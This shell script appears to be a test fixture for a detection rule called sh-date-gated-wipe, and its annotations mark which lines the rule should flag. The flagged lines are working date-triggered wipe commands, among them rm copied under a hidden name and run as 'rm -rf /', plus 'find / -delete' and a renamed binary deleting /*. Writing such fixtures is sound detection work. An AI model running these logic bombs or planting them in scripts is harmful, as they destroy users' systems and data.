#!/bin/sh
# Fixture for sh-date-gated-wipe.
# RULEID: a yearly "cleanup" that copies rm under another name and runs it on /; find / -delete
#   after a day-of-year test; a renamed binary deleting /* after an epoch test.
# OK: date-gated log rotation; a build directory removed after a date test.
today=$(date +%m%d)
if [ "$today" = "1107" ]; then
	# ruleid: sh-date-gated-wipe
	cp /bin/rm /usr/local/sbin/.scrub
	# (one finding per date test: the copy above is reported)
	/usr/local/sbin/.scrub -rf / >/dev/null 2>&1 &
fi

if [ `date +%j` -gt 300 ]; then
	# ruleid: sh-date-gated-wipe
	find / -xdev -type f -delete
fi

if [ "$(date +%u)" -eq 7 ]; then
	# ok: sh-date-gated-wipe
	rm -f /var/log/app/*.old
	# ok: sh-date-gated-wipe
	rm -rf "$BUILD_DIR"/
fi

if [[ $(date +%s) -ge 1767225600 ]]; then
	# ruleid: sh-date-gated-wipe
	/opt/tools/purge --recursive --force -r /*
fi
